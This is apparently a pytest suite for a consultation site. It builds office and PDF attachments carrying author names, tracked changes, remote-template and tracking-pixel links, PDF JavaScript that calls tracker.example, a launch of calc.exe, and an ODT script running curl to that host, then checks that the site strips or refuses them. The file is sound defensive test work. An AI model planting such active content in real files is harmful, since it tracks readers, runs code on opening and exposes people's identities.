"""What is inside attached documents: names (tracked changes, comments, notes, annotations, people) and
anything that acts or fetches when the file is opened. Each file is made by the library that writes its
format, with the parts that library cannot write (a reviewer's changes and comments, a remote template)
put into the real file; each goes through the comment form, a moderator, and a download signed out."""

import io
import re
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from fpdf import FPDF
from lxml import etree
from odf import dc, draw, office, teletype
from odf import text as odftext
from odf.namespaces import TEXTNS, XMLNS
from odf.opendocument import OpenDocumentText, load
from openpyxl.comments import Comment as Note
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    StreamObject,
    TextStringObject,
)
from sqlalchemy import select

from consult.accounts.models import StaffRoleName
from consult.comments.attachments import DOCX, ODT, PDF, XLSX, AttachmentRefused, store
from consult.comments.models import Attachment, Comment, CommentState
from consult.extensions import db
from consult.rounds.models import ModerationMode
from tests.comments.test_taking_part import form as comment_form
from tests.comments.test_taking_part import make_open_round
from tests.helpers import make_user, sign_in, submit

#: A reviewer and a commenter, in two scripts, with their initials: none may be left in a served file.
REVIEWER, REVIEWER_INITIALS = "Zhang Wei", "ZW"
COMMENTER, COMMENTER_INITIALS = "Amira Haddad", "AH"
REVIEWER_HAN, COMMENTER_ARABIC = "张伟", "أميرة حداد"
NAMES = (REVIEWER, COMMENTER, REVIEWER_HAN, COMMENTER_ARABIC, "amira.haddad", "zhangwei")
INITIALS = (REVIEWER_INITIALS, COMMENTER_INITIALS)
#: The host a tracker in a file would call: nothing in a served file may point at it.
TRACKER = "tracker.example"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _zip(members: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(
                name, content, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            )
    return output.getvalue()


def _add_relationships(rels: bytes, *relationships: str) -> bytes:
    return rels.replace(b"</Relationships>", "".join(relationships).encode() + b"</Relationships>")


def _add_overrides(types: bytes, *parts: tuple[str, str]) -> bytes:
    overrides = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in parts)
    return types.replace(b"</Types>", overrides.encode() + b"</Types>")


# --- A Word file reviewed by two people ---------------------------------------------------------------------

_CHANGE = f'w:author="{REVIEWER}" w:date="2025-03-01T10:00:00Z"'
#: What Word writes when Zhang Wei reviews with tracked changes and Amira Haddad comments: an insertion, a
#: deletion, a moved sentence, a reformatted run, a deleted paragraph end, a comment on a passage, revision
#: ids, a picture and a text fetched by fields, the author's name in an AUTHOR field, and two links.
_REVIEWED_BODY = f"""
<w:p w:rsidR="00A1B2C3" w:rsidRDefault="00D4E5F6">
<w:r><w:t xml:space="preserve">Detention conditions </w:t></w:r>
<w:ins w:id="101" {_CHANGE}><w:r w:rsidR="00A1B2C3">
<w:t xml:space="preserve">have improved </w:t></w:r></w:ins>
<w:del w:id="102" {_CHANGE}><w:r><w:delText xml:space="preserve">are appalling </w:delText></w:r></w:del>
<w:r><w:rPr><w:b/><w:rPrChange w:id="103" {_CHANGE}><w:rPr/></w:rPrChange></w:rPr>
<w:t>since 2023.</w:t></w:r></w:p>
<w:p><w:pPr><w:rPr><w:del w:id="104" {_CHANGE}/></w:rPr></w:pPr>
<w:r><w:t xml:space="preserve">Joined </w:t></w:r></w:p>
<w:p><w:r><w:t>paragraph.</w:t></w:r></w:p>
<w:p><w:moveFrom w:id="105" {_CHANGE}><w:r><w:t>Moved away.</w:t></w:r></w:moveFrom></w:p>
<w:p><w:moveTo w:id="106" {_CHANGE}><w:r><w:t>Moved here.</w:t></w:r></w:moveTo></w:p>
<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>The commented passage.</w:t></w:r><w:commentRangeEnd w:id="0"/>
<w:r><w:rPr><w:rStyle w:val="CommentReference"/></w:rPr><w:commentReference w:id="0"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://{TRACKER}/pixel.png" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[the picture]</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://{TRACKER}/text.docx&quot; ">
<w:r><w:t>[the text]</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:t xml:space="preserve">Written by </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> AUTHOR </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r>
<w:r><w:t>{REVIEWER}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:hyperlink r:id="rIdSource"><w:r><w:t>The source.</w:t></w:r></w:hyperlink>
<w:hyperlink r:id="rIdShare"><w:r><w:t>The share.</w:t></w:r></w:hyperlink></w:p>
"""

_WORD_COMMENTS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{COMMENTER}" w:date="2025-03-02T09:00:00Z"
 w:initials="{COMMENTER_INITIALS}"><w:p><w:r><w:annotationRef/></w:r>
<w:r><w:t>A remark by the reviewer, who is {COMMENTER_ARABIC}.</w:t></w:r></w:p></w:comment></w:comments>"""

_PEOPLE = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w15:people xmlns:w15="{W15}"><w15:person w15:author="{COMMENTER}"><w15:presenceInfo w15:providerId="AD"
 w15:userId="S::amira.haddad@example.org::8f6e"/></w15:person><w15:person w15:author="{REVIEWER_HAN}">
<w15:presenceInfo w15:providerId="None" w15:userId="{REVIEWER}"/></w15:person></w15:people>"""

_COMMENTS_EXTENDED = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w15:commentsEx xmlns:w15="{W15}"><w15:commentEx w15:paraId="1A2B3C4D" w15:done="0"/></w15:commentsEx>"""

_COMMENTS_IDS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w16cid:commentsIds xmlns:w16cid="http://schemas.microsoft.com/office/word/2016/wordml/cid">
<w16cid:commentId w16cid:paraId="1A2B3C4D" w16cid:durableId="2B3C4D5E"/></w16cid:commentsIds>"""


def reviewed_docx() -> bytes:
    """A Word file made by python-docx, then reviewed: tracked changes by Zhang Wei, a comment by Amira
    Haddad, people.xml naming both, a remote template, fields that fetch, and the author in core.xml."""
    document = docx.Document()
    document.add_paragraph("Our testimony.")
    document.core_properties.author = REVIEWER
    output = io.BytesIO()
    document.save(output)
    members = _members(output.getvalue())
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"<w:sectPr", _REVIEWED_BODY.encode() + b"<w:sectPr", 1
    )
    members["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:attachedTemplate r:id="rIdTemplate"/><w:trackRevisions/>',
        members["word/settings.xml"],
        count=1,
    )
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:rsids><w:rsidRoot w:val="00A1B2C3"/><w:rsid w:val="00D4E5F6"/></w:rsids></w:settings>',
    )
    members["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdTemplate" Type="{R}/attachedTemplate" '
        f'Target="http://{TRACKER}/templates/Normal.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    members["word/comments.xml"] = _WORD_COMMENTS.encode()
    members["word/people.xml"] = _PEOPLE.encode()
    members["word/commentsExtended.xml"] = _COMMENTS_EXTENDED.encode()
    members["word/commentsIds.xml"] = _COMMENTS_IDS.encode()
    members["word/_rels/document.xml.rels"] = _add_relationships(
        members["word/_rels/document.xml.rels"],
        f'<Relationship Id="rIdComments" Type="{R}/comments" Target="comments.xml"/>',
        '<Relationship Id="rIdPeople" Type="http://schemas.microsoft.com/office/2011/relationships/people" '
        'Target="people.xml"/>',
        '<Relationship Id="rIdCommentsEx" Target="commentsExtended.xml" '
        'Type="http://schemas.microsoft.com/office/2011/relationships/commentsExtended"/>',
        '<Relationship Id="rIdCommentsIds" Target="commentsIds.xml" '
        'Type="http://schemas.microsoft.com/office/2016/09/relationships/commentsIds"/>',
        f'<Relationship Id="rIdSource" Type="{R}/hyperlink" Target="https://www.ohchr.org/en/hr-bodies/upr" '
        'TargetMode="External"/>',
        f'<Relationship Id="rIdShare" Type="{R}/hyperlink" Target="file://{TRACKER}/share/notes.docx" '
        'TargetMode="External"/>',
        f'<Relationship Id="rIdPixel" Type="{R}/image" Target="http://{TRACKER}/linked.png" '
        'TargetMode="External"/>',
    )
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    members["[Content_Types].xml"] = _add_overrides(
        members["[Content_Types].xml"],
        ("/word/comments.xml", f"{word}.comments+xml"),
        ("/word/people.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"),
        ("/word/commentsExtended.xml", f"{word}.commentsExtended+xml"),
        ("/word/commentsIds.xml", f"{word}.commentsIds+xml"),
    )
    return _zip(members)


# --- A PDF annotated, scripted and carrying a file ----------------------------------------------------------


def _pdf_text() -> bytes:
    """A page of text written by fpdf2."""
    page = FPDF()
    page.add_page()
    page.set_font("helvetica", size=12)
    page.cell(text="Visible testimony about detention.")
    return bytes(page.output())


def _javascript(writer: PdfWriter, code: str) -> IndirectObject:
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(code),
            }
        )
    )


def _annotation(writer: PdfWriter, entries: dict) -> IndirectObject:
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 700, 250, 720)]),
                **{NameObject(key): value for key, value in entries.items()},
            }
        )
    )


def annotated_pdf() -> bytes:
    """A PDF made by fpdf2 and pypdf: a note and a highlight by Amira Haddad, a link that launches a program,
    a safe web link, a form field filled with a name, document and page JavaScript run on opening, a file
    embedded in it, and the author in its document information."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_text())))
    page = writer.pages[0]
    popup = _annotation(writer, {"/Subtype": NameObject("/Popup"), "/T": TextStringObject(COMMENTER)})
    note = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Text"),
            "/T": TextStringObject(COMMENTER_ARABIC),
            "/Contents": TextStringObject(f"Check this, {REVIEWER}"),
            "/Popup": popup,
        },
    )
    highlight = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Highlight"),
            "/T": TextStringObject(COMMENTER),
            "/Contents": TextStringObject(COMMENTER_INITIALS),
            "/QuadPoints": ArrayObject([FloatObject(v) for v in (50, 720, 250, 720, 50, 700, 250, 700)]),
        },
    )
    launch = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Link"),
            "/A": DictionaryObject(
                {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
            ),
        },
    )
    tracked_link = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Link"),
            "/A": DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("https://www.ohchr.org/"),
                }
            ),
            "/AA": DictionaryObject(
                {NameObject("/E"): _javascript(writer, f"fetch('http://{TRACKER}/hover')")}
            ),
        },
    )
    field = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Widget"),
            "/FT": NameObject("/Tx"),
            "/T": TextStringObject("reviewer"),
            "/V": TextStringObject(REVIEWER),
            "/AA": DictionaryObject({NameObject("/K"): _javascript(writer, "app.alert('typed')")}),
        },
    )
    page[NameObject("/Annots")] = ArrayObject([note, popup, highlight, launch, tracked_link, field])
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript(writer, "app.alert('page')")})
    root = writer.root_object
    root[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field]), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )
    root[NameObject("/OpenAction")] = _javascript(writer, f"this.submitForm('http://{TRACKER}/opened')")
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [TextStringObject("tracker"), _javascript(writer, f"fetch('http://{TRACKER}/js')")]
                    )
                }
            )
        }
    )
    writer.add_attachment("contacts.txt", f"{REVIEWER}: +000 000".encode())
    writer.add_metadata({"/Author": REVIEWER, "/Title": f"By {COMMENTER}"})
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


# --- A workbook with a note and a threaded comment ----------------------------------------------------------

_THREADED = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">
<threadedComment ref="B2" dT="2025-03-02T09:00:00.00" personId="{PERSON}" id="{COMMENT}">
<text>Are these right? {name}</text></threadedComment></ThreadedComments>"""

_PERSONS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">
<person displayName="{COMMENTER}" id="{{PERSON}}" userId="amira.haddad@example.org" providerId="AD"/>
</personList>"""

_SAVED_IN = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    '<mc:Choice Requires="x15"><x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/'
    '2010/11/ac" url="C:\\Users\\zhangwei\\Documents\\"/></mc:Choice></mc:AlternateContent>'
)


def noted_xlsx() -> bytes:
    """A workbook made by openpyxl with a note by Zhang Wei, then a threaded comment by Amira Haddad, the
    person list naming her, and the folder Excel saved it in."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["B2"] = "Figures stay", 42
    sheet["A1"].comment = Note(f"Source: my notes. {REVIEWER_HAN}", REVIEWER)
    workbook.properties.creator = REVIEWER
    output = io.BytesIO()
    workbook.save(output)
    members = _members(output.getvalue())
    members["xl/threadedComments/threadedComment1.xml"] = _THREADED.replace(
        "{name}", COMMENTER_ARABIC
    ).encode()
    members["xl/persons/person.xml"] = _PERSONS.encode()
    sheet_rels = "xl/worksheets/_rels/sheet1.xml.rels"
    members[sheet_rels] = _add_relationships(
        members[sheet_rels],
        '<Relationship Id="rIdThread" Target="../threadedComments/threadedComment1.xml" '
        'Type="http://schemas.microsoft.com/office/2017/10/relationships/threadedComment"/>',
    )
    members["xl/_rels/workbook.xml.rels"] = _add_relationships(
        members["xl/_rels/workbook.xml.rels"],
        '<Relationship Id="rIdPersons" Target="persons/person.xml" '
        'Type="http://schemas.microsoft.com/office/2017/10/relationships/person"/>',
    )
    members["xl/workbook.xml"] = re.sub(
        rb"(<workbook[^>]*>)",
        rb"\1" + _SAVED_IN.replace("\\", "\\\\").encode(),
        members["xl/workbook.xml"],
        count=1,
    )
    members["[Content_Types].xml"] = _add_overrides(
        members["[Content_Types].xml"],
        ("/xl/threadedComments/threadedComment1.xml", "application/vnd.ms-excel.threadedcomments+xml"),
        ("/xl/persons/person.xml", "application/vnd.ms-excel.person+xml"),
    )
    return _zip(members)


# --- An OpenDocument text with changes and an annotation ----------------------------------------------------


def _change_info(when: str) -> office.ChangeInfo:
    info = office.ChangeInfo()
    info.addElement(dc.Creator(text=REVIEWER))
    info.addElement(dc.Date(text=when))
    return info


def _region(ident: str) -> odftext.ChangedRegion:
    """A changed region with both the ODF 1.1 and the ODF 1.2 identifier, as LibreOffice writes it."""
    return odftext.ChangedRegion(qattributes={(XMLNS, "id"): ident, (TEXTNS, "id"): ident})


def tracked_odt() -> bytes:
    """An OpenDocument text made by odfpy: Zhang Wei's insertion and deletion tracked, an annotation by Amira
    Haddad, a field that shows the author's initials, a picture linked from a tracker and a section
    fetched from it, and the creator in meta.xml."""
    document = OpenDocumentText()
    document.meta.addElement(dc.Creator(text=REVIEWER))
    changes = odftext.TrackedChanges()
    inserted = _region("ct1")
    insertion = odftext.Insertion()
    insertion.addElement(_change_info("2025-03-01T10:00:00"))
    inserted.addElement(insertion)
    deleted = _region("ct2")
    deletion = odftext.Deletion()
    deletion.addElement(_change_info("2025-03-01T10:05:00"))
    deletion.addElement(odftext.P(text="Deleted words about the camp."))
    deleted.addElement(deletion)
    changes.addElement(inserted)
    changes.addElement(deleted)
    document.text.addElement(changes)

    paragraph = odftext.P(text="Conditions ")
    paragraph.addElement(odftext.ChangeStart(changeid="ct1"))
    paragraph.addText("have improved")
    paragraph.addElement(odftext.ChangeEnd(changeid="ct1"))
    paragraph.addElement(odftext.Change(changeid="ct2"))
    paragraph.addText(" since 2023.")
    annotation = office.Annotation()
    annotation.addElement(dc.Creator(text=COMMENTER))
    annotation.addElement(dc.Date(text="2025-03-02T09:00:00"))
    annotation.addElement(odftext.P(text=f"A remark by {COMMENTER_ARABIC}"))
    paragraph.addElement(annotation)
    paragraph.addText(" The end.")
    document.text.addElement(paragraph)

    signed = odftext.P(text="Initials: ")
    signed.addElement(odftext.AuthorInitials(text=REVIEWER_INITIALS))
    document.text.addElement(signed)
    linked = odftext.P()
    frame = draw.Frame(width="2cm", height="2cm", anchortype="as-char")
    frame.addElement(draw.Image(href=f"http://{TRACKER}/pixel.png"))
    linked.addElement(frame)
    document.text.addElement(linked)
    section = odftext.Section(name="Fetched")
    section.addElement(odftext.SectionSource(href=f"http://{TRACKER}/section.odt"))
    section.addElement(odftext.P(text="Fetched section text."))
    document.text.addElement(section)
    output = io.BytesIO()
    document.write(output)
    return output.getvalue()


# --- What a served file may hold ----------------------------------------------------------------------------


def _xml_values(part: bytes) -> list[str]:
    """Every attribute value and text of an XML part."""
    root = etree.fromstring(part, etree.XMLParser(resolve_entities=False, no_network=True))
    values = []
    for element in root.iter():
        if isinstance(element.tag, str):
            values += list(element.attrib.values())
        values += [element.text or "", element.tail or ""]
    return values


def _assert_names_nobody_and_fetches_nothing(data: bytes) -> dict[str, bytes]:
    """Every member of a zip searched for the names, the initials, the tracker and external targets."""
    members = _members(data)
    for name, content in members.items():
        for person in (*NAMES, TRACKER):
            assert person.encode() not in content, f"{person} in {name}"
        if name.endswith((".xml", ".rels")):
            values = [value.strip() for value in _xml_values(content)]
            for initials in INITIALS:
                assert initials not in values, f"{initials} in {name}"
        if name.endswith(".rels"):
            for relationship in etree.fromstring(content):
                if relationship.get("TargetMode") == "External":
                    assert relationship.get("Type").endswith("/hyperlink"), (
                        f"{relationship.get('Type')} in {name}"
                    )
                    assert relationship.get("Target").startswith(("https://", "http://", "mailto:")), name
    return members


def _pdf_strings(reader: PdfReader) -> tuple[set[str], set[str]]:
    """Every dictionary key and every string the document holds, in every object of the file."""
    keys, strings = set(), set()
    for number in range(1, len(reader.xref_objStm) + max(reader.trailer["/Size"], 1)):
        try:
            item = reader.get_object(number)
        except Exception:  # noqa: S112 - numbers without an object
            continue
        waiting, seen = [item], set()
        while waiting:
            item = waiting.pop()
            if isinstance(item, IndirectObject) or id(item) in seen:
                continue
            seen.add(id(item))
            if isinstance(item, DictionaryObject):
                keys |= set(item.keys())
                waiting += list(item.values())
                if isinstance(item, StreamObject):
                    strings.add(item.get_data().decode("latin-1"))
            elif isinstance(item, ArrayObject):
                waiting += list(item)
            elif isinstance(item, str):
                strings.add(str(item))
    return keys, strings


def _assert_pdf_names_nobody_and_does_nothing(data: bytes) -> PdfReader:
    reader = PdfReader(io.BytesIO(data))
    keys, strings = _pdf_strings(reader)
    for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/EmbeddedFile"):
        assert active not in keys and all(active not in s for s in strings), active
    assert "/AcroForm" not in keys and "/XFA" not in keys
    for person in (*NAMES, *INITIALS, TRACKER, "calc.exe"):
        assert not any(person in s for s in strings), person
        assert person.encode() not in data and person.encode("utf-16-be") not in data, person
    annotations = [a.get_object() for page in reader.pages for a in page.get("/Annots", [])]
    assert [a["/Subtype"] for a in annotations] == ["/Link"]  # the web link, without its hover script
    assert annotations[0]["/A"]["/URI"] == "https://www.ohchr.org/"
    assert not reader.metadata and reader.xmp_metadata is None
    return reader


# --- Through the form, a moderator and a download signed out ----------------------------------------------


def _approve(app, moderator_client, body: str) -> None:
    """A moderator opens the queue, finds the comment and approves it through the decision form."""
    queue = moderator_client.get("/moderation/").get_data(as_text=True)
    links = set(re.findall(r'href="(/moderation/comments/[^"/?#]+)"', queue))
    for link in links:
        page = moderator_client.get(link).get_data(as_text=True)
        if body not in page:
            continue
        action = re.search(r'action="([^"]+/decide)"', page).group(1)
        seen = re.search(r'name="seen_version"[^>]*value="(\d+)"', page) or re.search(
            r'value="(\d+)"[^>]*name="seen_version"', page
        )
        data = {"decision": "approve", "reason": "", "note": ""}
        if seen:
            data["seen_version"] = seen.group(1)
        answer = submit(moderator_client, action, data, page=link)
        assert answer.status_code == 302, answer.get_data(as_text=True)[:1000]
        return
    raise AssertionError("the comment is not in the moderation queue")


def _downloads_signed_out(app, expected: int) -> list[bytes]:
    """The round's public page read by a visitor, and every attachment it links downloaded."""
    visitor = app.test_client()
    page = visitor.get("/rounds/open-round").get_data(as_text=True)
    links = re.findall(r'href="(/comments/attachments/[^"]+)"', page)
    assert len(links) == expected, page[:3000]
    files = []
    for link in links:
        with visitor.get(link) as answer:
            assert answer.status_code == 200
            files.append(answer.get_data())
    return files


def _send(app, client, body: str, files: list[tuple[bytes, str]], publication: str = "anonymous"):
    return submit(
        client,
        "/comments/new/open-round",
        comment_form(
            target="round",
            body=body,
            publication=publication,
            attachments=[(io.BytesIO(data), name) for data, name in files],
        ),
        page="/comments/new/open-round?target=round",
        content_type="multipart/form-data",
    )


def _published_anonymously(
    app, files: list[tuple[bytes, str]], publication: str = "anonymous"
) -> list[bytes]:
    """Files sent with a comment through the form, approved by a moderator, and downloaded signed out."""
    with app.app_context():
        make_open_round(mode=ModerationMode.pre)
    contributor, moderator = app.test_client(), app.test_client()
    sign_in(contributor, app, make_user(app, name=REVIEWER))
    sign_in(moderator, app, make_user(app, roles=(StaffRoleName.moderator,)))
    body = "Our evidence is attached."
    sent = _send(app, contributor, body, files, publication)
    assert sent.status_code == 302, sent.get_data(as_text=True)[:2000]
    _approve(app, moderator, body)
    with app.app_context():
        assert db.session.scalar(select(Comment)).state is CommentState.published
    return _downloads_signed_out(app, len(files))


def test_a_reviewed_word_file_names_nobody_fetches_nothing_and_keeps_the_accepted_text(app):
    (served,) = _published_anonymously(app, [(reviewed_docx(), "testimony.docx")])

    members = _assert_names_nobody_and_fetches_nothing(served)
    for gone in ("word/comments.xml", "word/people.xml", "word/commentsExtended.xml", "word/commentsIds.xml"):
        assert gone not in members
    # python-docx's own template brings a thumbnail of the first page and SharePoint's custom XML.
    assert not [name for name in members if "thumbnail" in name or name.startswith("customXml/")]
    document, settings = members["word/document.xml"], members["word/settings.xml"]
    for mark in (
        b"w:ins ",
        b"<w:del ",
        b"w:moveFrom",
        b"w:moveTo",
        b"rPrChange",
        b"rsid",
        b"commentRangeStart",
    ):
        assert mark not in document, mark
    assert b"commentReference" not in document and b"fldSimple" not in document
    assert b"INCLUDEPICTURE" not in document and b"INCLUDETEXT" not in document and b"AUTHOR" not in document
    assert (
        b"attachedTemplate" not in settings and b"rsid" not in settings and b"trackRevisions" not in settings
    )
    text = [paragraph.text for paragraph in docx.Document(io.BytesIO(served)).paragraphs]
    assert "Detention conditions have improved since 2023." in text
    assert "Joined paragraph." in text and "Moved here." in text
    assert "[the picture]" in text and "[the text]" in text  # what the fields last showed
    assert "Written by " in text  # the AUTHOR field and the name it showed are gone
    assert "The source.The share." in text
    everything = "\n".join(text)
    assert "appalling" not in everything and "Moved away" not in everything and "remark" not in everything
    assert b"https://www.ohchr.org/en/hr-bodies/upr" in members["word/_rels/document.xml.rels"]


def test_an_annotated_scripted_pdf_names_nobody_does_nothing_and_keeps_its_text(app):
    (served,) = _published_anonymously(app, [(annotated_pdf(), "testimony.pdf")])

    reader = _assert_pdf_names_nobody_and_does_nothing(served)
    assert "Visible testimony about detention." in reader.pages[0].extract_text()


def test_a_noted_workbook_names_nobody_and_keeps_its_figures(app):
    (served,) = _published_anonymously(app, [(noted_xlsx(), "figures.xlsx")])

    members = _assert_names_nobody_and_fetches_nothing(served)
    assert not [name for name in members if re.search(r"comments|persons|vmlDrawing", name, re.I)]
    assert b"legacyDrawing" not in members["xl/worksheets/sheet1.xml"]
    assert b"absPath" not in members["xl/workbook.xml"]
    sheet = openpyxl.load_workbook(io.BytesIO(served)).active
    assert (sheet["A1"].value, sheet["B2"].value) == ("Figures stay", 42)
    assert sheet["A1"].comment is None


def test_a_tracked_odt_names_nobody_fetches_nothing_and_keeps_the_accepted_text(app):
    (served,) = _published_anonymously(app, [(tracked_odt(), "testimony.odt")])

    members = _assert_names_nobody_and_fetches_nothing(served)
    content = members["content.xml"]
    for mark in (
        b"tracked-changes",
        b"change-start",
        b"text:change",
        b"annotation",
        b"section-source",
        b"draw:image",
    ):
        assert mark not in content, mark
    assert next(iter(members)) == "mimetype"
    text = "\n".join(teletype.extractText(p) for p in load(io.BytesIO(served)).getElementsByType(odftext.P))
    assert "Conditions have improved since 2023. The end." in text
    assert "Fetched section text." in text
    assert "Deleted words" not in text and "remark" not in text


def test_every_rewritten_zip_is_dated_one_fixed_day_and_carries_no_extra_fields(app):
    for served in _published_anonymously(
        app, [(reviewed_docx(), "a.docx"), (noted_xlsx(), "b.xlsx"), (tracked_odt(), "c.odt")]
    ):
        with zipfile.ZipFile(io.BytesIO(served)) as archive:
            for info in archive.infolist():
                assert info.date_time == (1980, 1, 1, 0, 0, 0) and info.extra == b"", info.filename
            assert archive.comment == b""


def test_cleaning_the_same_file_twice_gives_the_same_bytes(tmp_path):
    for data, name in ((reviewed_docx(), "a.docx"), (noted_xlsx(), "b.xlsx"), (tracked_odt(), "c.odt")):
        first, second = store(data, name, tmp_path), store(data, name, tmp_path)
        assert first.sha256 == second.sha256, name


# --- Refused files keep the comment's text ----------------------------------------------------------------


def macro_enabled_docx() -> bytes:
    """A Word file saved as macro-enabled (.docm) under a .docx name: its main part says so."""
    members = _members(reviewed_docx())
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _zip(members)


def _odt_with_event_script() -> bytes:
    members = _members(tracked_odt())
    members["Scripts/python/opened.py"] = b"import os; os.system('curl http://tracker.example')"
    return _zip(members)


@pytest.mark.parametrize(
    ("make", "name"),
    [(macro_enabled_docx, "letter.docx"), (_odt_with_event_script, "letter.odt")],
    ids=["macro-enabled-word", "odt-with-scripts"],
)
def test_a_file_with_macros_is_refused_with_a_clear_message_and_the_text_is_kept(app, make, name):
    with app.app_context():
        make_open_round(mode=ModerationMode.pre)
    contributor = app.test_client()
    sign_in(contributor, app, make_user(app))

    answer = _send(app, contributor, "My words must not be lost.", [(make(), name)])

    page = answer.get_data(as_text=True)
    assert answer.status_code == 422
    message = re.search(r'id="attachments-error">([^<]+)<', page)
    assert message and f"{name} contains macros or embedded programs" in message.group(1)
    assert "My words must not be lost." in page
    with app.app_context():
        assert db.session.scalar(select(Comment)) is None
    folder = Path(app.config["UPLOAD_FOLDER"])
    assert not folder.exists() or not any(folder.iterdir())


#: The start of an OLE compound file: an old .doc or .xls, an equation object, a package wrapping a program.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _docx_with_old_office_object() -> bytes:
    members = _members(reviewed_docx())
    members["word/embeddings/Old_Document.doc"] = OLE
    members["word/_rels/document.xml.rels"] = _add_relationships(
        members["word/_rels/document.xml.rels"],
        f'<Relationship Id="rIdOld" Type="{R}/oleObject" Target="embeddings/Old_Document.doc"/>',
    )
    return _zip(members)


@pytest.mark.parametrize(
    ("make", "name"),
    [
        (macro_enabled_docx, "letter.docx"),
        (_docx_with_old_office_object, "ole.docx"),
        (lambda: _zip({**_members(tracked_odt()), "Object 1": OLE}), "ole.odt"),
    ],
    ids=["macro-enabled-type", "old-office-object-in-word", "ole-object-in-odt"],
)
def test_macros_and_ole_objects_are_refused_by_the_kernel_too(tmp_path, make, name):
    with pytest.raises(AttachmentRefused) as refusal:
        store(make(), name, tmp_path)

    assert "macros or embedded programs" in refusal.value.message
    assert not any(tmp_path.iterdir())


# --- The setting ------------------------------------------------------------------------------------------


def test_with_the_setting_off_a_named_comment_keeps_the_names_inside_but_nothing_that_acts(app):
    app.config["ATTACHMENTS_CLEAN_ALL"] = False

    word, pdf = _published_anonymously(
        app, [(reviewed_docx(), "testimony.docx"), (annotated_pdf(), "testimony.pdf")], publication="named"
    )

    members = _members(word)
    assert b"w:ins " in members["word/document.xml"] and COMMENTER.encode() in members["word/comments.xml"]
    assert b"attachedTemplate" not in members["word/settings.xml"]
    assert b"INCLUDEPICTURE" not in members["word/document.xml"]
    assert not any(TRACKER.encode() in content for content in members.values())
    assert REVIEWER.encode() not in members["docProps/core.xml"]  # metadata goes whatever the setting
